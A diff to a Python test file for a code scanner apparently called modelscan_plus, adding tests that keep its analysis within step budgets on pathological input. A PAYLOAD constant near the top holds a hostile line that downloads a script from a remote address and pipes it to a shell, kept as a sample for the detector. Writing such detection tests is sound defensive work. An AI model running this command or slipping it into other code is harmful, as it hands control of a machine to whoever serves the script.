@@ -1,6 +1,7 @@
 """What the analysis of a Python source may cost, counted in its own steps: no clock decides here."""
 
 import ast
+from collections.abc import Iterator
 
 import pytest
 
@@ -9,10 +10,13 @@ from modelscan_plus.core.limits import Budget, BudgetExceeded, Limits
 from modelscan_plus.formats.text import remarks
 from modelscan_plus.formats.text.python import fold
 from modelscan_plus.formats.text.python.analyse import KEPT, analyse
+from modelscan_plus.formats.text.python.blocks import blocks_of
 from modelscan_plus.formats.text.python.follow.emit import Emitter
 from modelscan_plus.formats.text.python.follow.program import Program
 from modelscan_plus.formats.text.python.follow.values import Items, Known, Unknown, flows_of
+from modelscan_plus.formats.text.python.handed import handed
 from modelscan_plus.formats.text.python.names import Names
+from modelscan_plus.formats.text.python.visitors import Visitors
 from modelscan_plus.formats.text.python.walk import walk
 
 PAYLOAD = "import os\nos.system('curl http://203.0.113.7/a | sh')\n"
@@ -156,3 +160,36 @@ def test_a_busy_machine_does_not_end_an_analysis_early(monkeypatch: pytest.Monke
     now |= {"clock": 31.0, "processor": 1.0}
     with pytest.raises(BudgetExceeded, match="10 s"):
         budget.check_time()
+
+
+def test_one_name_may_be_defined_many_times() -> None:
+    blocks = blocks_of(ast.parse("def f(): pass\n" * 30_000))
+    assert len(blocks) == 30_002
+    assert "f#30000" in blocks
+    assert blocks["f#30000"].last == "f"
+
+
+def test_what_functions_take_as_fields_is_looked_up_not_searched() -> None:
+    class Counted(list[ast.AST]):
+        read = 0
+
+        def __iter__(self) -> Iterator[ast.AST]:
+            Counted.read += 1
+            return super().__iter__()
+
+    calls = "".join(f"def f{n}(a, **more):\n    f{n + 1}(a, key=a)\n" for n in range(100))
+    tree = ast.parse(calls)
+    names = Names(tree)
+    names.nodes = Counted(names.nodes)
+    visitors = Visitors(names, blocks_of(tree), handed(tree, names))
+    Counted.read = 0
+    visitors.with_parameters()
+    assert Counted.read < 10
+    assert any(label.startswith("PARAM:f0:") for label in visitors._held["f1", "more"])
+
+
+def test_a_page_of_tags_that_never_close_is_read_once() -> None:
+    page = "<p " * 400_000 + "<p style='display:none'>not for you</p>"
+    assert [text for _, text in remarks.hidden_texts(page)] == ["not for you"]
+    assert list(remarks.hidden_texts("<p " * 400 + "<p style='display:block'>for you</p>")) == []
+    assert list(remarks.hidden_texts("<p>display:none</p>")) == []
